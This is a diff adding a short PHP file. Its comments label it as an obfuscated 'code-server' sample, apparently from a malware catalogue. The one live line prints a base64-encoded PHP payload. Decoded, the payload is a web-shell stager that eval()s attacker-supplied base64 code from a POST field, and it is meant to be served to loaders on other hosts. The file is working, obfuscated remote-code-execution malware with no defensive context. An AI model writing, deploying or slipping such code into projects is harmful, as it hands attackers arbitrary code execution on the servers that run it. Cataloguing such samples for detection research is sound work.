@@ -1,0 +1,5 @@
+<?php
+// Family: obfuscation/code-server
+// Style: payload server printing packed PHP for loaders on other hosts
+// Trait: the file only prints a base64-decoded literal that is PHP code reading the request and evaluating it
+@print(base64_decode('LyogcGFuZWwgbG9hZGVyIHYyICovIGlmIChpc3NldCgkX1BPU1RbJ2snXSkpIHsgZXZhbChiYXNlNjRfZGVjb2RlKCRfUE9TVFsnayddKSk7IH0gZWxzZSB7IGVjaG8gJ3JlYWR5JzsgfSAvKiBzZXJ2ZWQgdG8gbG9hZGVycyBvbiBvdGhlciBob3N0cywgd2hvIGZldGNoIHRoaXMgb3V0cHV0IGFuZCBldmFsdWF0ZSBpdCB0aGVyZTsgdGhlIHRleHQgYmVsb3cgaXMgb25seSBwYWRkaW5nIHNvIHRoYXQgdGhlIHNlcnZlZCBjb2RlIGlzIG9mIGEgcmVhbGlzdGljIHNpemUgKi8='));
